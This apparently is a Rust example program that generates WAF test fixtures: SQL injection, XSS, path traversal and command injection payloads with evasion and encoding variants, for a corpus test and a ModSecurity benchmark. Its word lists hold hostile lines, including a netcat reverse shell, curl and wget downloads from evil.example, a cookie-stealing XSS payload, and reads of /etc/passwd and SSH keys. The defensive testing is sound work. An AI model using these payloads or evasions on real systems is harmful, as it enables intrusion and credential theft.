//! Generates attack payloads from small grammars — context × core × evasion × encoding — one
//! file per class, the way scanners vary a payload, and every eighth payload again wrapped in
//! prose (`a … b`, `hi there friend …`; SQL payloads only followed by words). The corpus test reads the generated files
//! (`tests/fixtures/waf/generated/`), and the differential bench sends them to ModSecurity.
//!
//! ```text
//! cargo run -p waf --example waf_payloads -- tests/fixtures/waf/generated
//! sqli.txt      178 payloads
//! xss.txt      122 payloads
//! traversal.txt      134 payloads
//! command.txt      178 payloads
//! ```
//!
//! The choice of combinations is pseudo-random with a fixed seed, so the files are stable.

use std::fmt::Write as _;
use std::path::PathBuf;

/// A fixed-seed generator (xorshift), so the output does not change between runs.
struct Picker(u64);

impl Picker {
    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        items[(self.0 % items.len() as u64) as usize]
    }
}

/// Upper-cases every other letter: `uNiOn`.
fn mixed_case(text: &str) -> String {
    text.chars()
        .enumerate()
        .map(|(i, c)| {
            if i % 2 == 1 {
                c.to_ascii_uppercase()
            } else {
                c
            }
        })
        .collect()
}

/// Percent-encodes every byte that is not alphanumeric.
fn url_encode(text: &str) -> String {
    text.bytes().fold(String::new(), |mut out, b| {
        if b.is_ascii_alphanumeric() {
            out.push(char::from(b));
        } else {
            let _ = write!(out, "%{b:02X}");
        }
        out
    })
}

/// Decimal HTML character references for markup characters.
fn html_entities(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            '<' | '>' | '"' | '\'' | '(' | ')' => format!("&#{};", u32::from(c)),
            _ => c.to_string(),
        })
        .collect()
}

fn sqli(picker: &mut Picker) -> Vec<String> {
    let prefixes = ["1", "1'", "1\"", "1)", "1')", "x'", "-1", "admin'"];
    let cores = [
        "or 1=1",
        "or 2>1",
        "or 3 like 3",
        "or 'a'='a'",
        "or 4<=>4",
        "and sleep(5)",
        "or benchmark(1000000,md5(1))",
        "and 1=(select 1 from information_schema.tables limit 1)",
        "union select null,null",
        "union all select 1,user(),3",
        "; drop table users",
        "; waitfor delay '0:0:5'",
        "; exec xp_cmdshell 'dir'",
        "and extractvalue(1,concat(0x7e,version()))",
        "or pg_sleep(5) is null",
        "order by 5",
    ];
    let suffixes = ["", " --", " #", " -- -", " /*"];
    let evasions: [fn(&str) -> String; 5] = [
        str::to_owned,
        mixed_case,
        |s| s.replace(' ', "/**/"),
        |s| s.replace(' ', "\t"),
        |s| {
            s.replace("union", "/*!50000union*/")
                .replace("select", "/*!50000select*/")
        },
    ];
    let mut out = Vec::new();
    for core in cores {
        for _ in 0..10 {
            let prefix = picker.pick(&prefixes);
            let suffix = picker.pick(&suffixes);
            let evasion = evasions[out.len() % evasions.len()];
            let payload = evasion(&format!("{prefix} {core}{suffix}"));
            out.push(if out.len() % 7 == 3 {
                url_encode(&payload)
            } else {
                payload
            });
        }
    }
    out
}

fn command(picker: &mut Picker) -> Vec<String> {
    let prefixes = ["", "127.0.0.1", "x", "file.txt", "8.8.8.8 "];
    let separators = [";", "|", "||", "&&", "&", "\n", "$(", "`"];
    let commands = [
        "id",
        "whoami",
        "uname -a",
        "cat /etc/passwd",
        "nslookup evil.example",
        "curl http://evil.example/x",
        "wget evil.example/x -O /tmp/x",
        "ping -c 3 10.0.0.1",
        "sleep 5",
        "python -c 'import os'",
        "perl -e 'print 1'",
        "nc 10.0.0.1 4444 -e /bin/sh",
        "ls -la /",
        "powershell -enc SQBFAFgA",
        "type c:\\windows\\win.ini",
        "getent passwd",
    ];
    let evasions: [fn(&str) -> String; 5] = [
        str::to_owned,
        // c'a't
        |s| match s.char_indices().nth(1) {
            Some((at, _)) => format!("{}'{}'{}", &s[..at], &s[at..at + 1], &s[at + 1..]),
            None => s.to_owned(),
        },
        // c\at
        |s| match s.char_indices().nth(1) {
            Some((at, _)) => format!("{}\\{}", &s[..at], &s[at..]),
            None => s.to_owned(),
        },
        |s| s.replacen(' ', "${IFS}", 1),
        // wh$@oami
        |s| match s.char_indices().nth(2) {
            Some((at, _)) if !s[..at].contains(' ') => format!("{}$@{}", &s[..at], &s[at..]),
            _ => s.to_owned(),
        },
    ];
    let mut out = Vec::new();
    for command in commands {
        for _ in 0..10 {
            let prefix = picker.pick(&prefixes);
            let separator = picker.pick(&separators);
            let close = match separator {
                "$(" => ")",
                "`" => "`",
                _ => "",
            };
            let evasion = evasions[out.len() % evasions.len()];
            let payload = format!("{prefix}{separator}{}{close}", evasion(command));
            out.push(if out.len() % 7 == 3 {
                url_encode(&payload)
            } else {
                payload
            });
        }
    }
    out
}

fn xss(picker: &mut Picker) -> Vec<String> {
    let breakouts = ["", "\">", "'>", "</title>", "--><", "\" "];
    let vectors = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=confirm(1)>",
        "<body onload=prompt(1)>",
        "<iframe src=javascript:alert(1)>",
        "<a href=\"javascript:alert(document.domain)\">x</a>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<object data=\"data:text/html,<script>alert(1)</script>\">",
        "<svg><animate onbegin=alert(1) attributeName=x>",
        "<img src=1 onerror=\"fetch('//evil.example?c='+document.cookie)\">",
    ];
    let encodings: [fn(&str) -> String; 4] = [str::to_owned, mixed_case, url_encode, |s| {
        url_encode(&url_encode(s))
    }];
    let mut out = Vec::new();
    for vector in vectors {
        for _ in 0..10 {
            let breakout = picker.pick(&breakouts);
            let payload = format!("{breakout}{vector}");
            let encoded = match out.len() % 9 {
                4 => html_entities(&payload),
                _ => encodings[out.len() % encodings.len()](&payload),
            };
            out.push(encoded);
        }
    }
    out
}

fn traversal(picker: &mut Picker) -> Vec<String> {
    let ups = [
        "../",
        "..\\",
        "....//",
        "..%2f",
        "%2e%2e/",
        "%252e%252e%252f",
        "..%c0%af",
    ];
    let targets = [
        "etc/passwd",
        "etc/shadow",
        "windows/win.ini",
        "boot.ini",
        "proc/self/environ",
        "var/www/html/.env",
        "WEB-INF/web.xml",
        "root/.ssh/id_rsa",
    ];
    let prefixes = ["", "/static/", "images/", "file=", "/download?f="];
    let suffixes = ["", "%00", "%00.jpg", "?", "#"];
    let mut out = Vec::new();
    for target in targets {
        for depth in 2..=6 {
            for _ in 0..3 {
                let up = picker.pick(&ups);
                let prefix = picker.pick(&prefixes);
                let suffix = picker.pick(&suffixes);
                out.push(format!("{prefix}{}{target}{suffix}", up.repeat(depth)));
            }
        }
    }
    out
}

/// Sentences a payload is wrapped in (before, after, both): a mention in prose is exempt only
/// for a bare word, so wrapping must not hide an attack.
const PROSE: [(&str, &str); 4] = [
    ("a ", " b"),
    ("hi there friend ", ""),
    ("", " a b"),
    ("see the docs here ", " and tell me what you think"),
];

/// Sentences after a SQL payload: words before one that does not open with a quote make the
/// query a syntax error (`id = hi there 1 or 1=1`), not an injection.
const PROSE_AFTER: [(&str, &str); 2] = [("", " a b"), ("", " and tell me what you think")];

/// Every eighth payload again, wrapped in one of `wraps`.
fn prose_wrapped(payloads: &[String], wraps: &[(&str, &str)]) -> Vec<String> {
    payloads
        .iter()
        .step_by(8)
        .enumerate()
        .map(|(index, payload)| {
            let (before, after) = wraps[index % wraps.len()];
            format!("{before}{payload}{after}")
        })
        .collect()
}

fn main() {
    let dir = PathBuf::from(
        std::env::args()
            .nth(1)
            .unwrap_or_else(|| "tests/fixtures/waf/generated".into()),
    );
    std::fs::create_dir_all(&dir).expect("the output directory can be created");
    let mut picker = Picker(0x9e37_79b9_7f4a_7c15);
    let classes: [(&str, Vec<String>); 4] = [
        ("sqli", sqli(&mut picker)),
        ("xss", xss(&mut picker)),
        ("traversal", traversal(&mut picker)),
        ("command", command(&mut picker)),
    ];
    for (class, mut payloads) in classes {
        let wraps: &[(&str, &str)] = if class == "sqli" {
            &PROSE_AFTER
        } else {
            &PROSE
        };
        payloads.extend(prose_wrapped(&payloads, wraps));
        let mut text = format!(
            "# Generated by `cargo run -p waf --example waf_payloads`: {class} payloads from a \
             grammar.\n# Do not edit; rerun the example.\n"
        );
        let mut seen = std::collections::HashSet::new();
        let mut count = 0;
        for payload in payloads {
            // One payload a line: a newline inside one is written percent-encoded.
            let line = payload.replace('\n', "%0a");
            if seen.insert(line.clone()) {
                text.push_str(&line);
                text.push('\n');
                count += 1;
            }
        }
        let path = dir.join(format!("{class}.txt"));
        std::fs::write(&path, text).expect("the output file can be written");
        println!("{class}.txt {count:>8} payloads");
    }
}
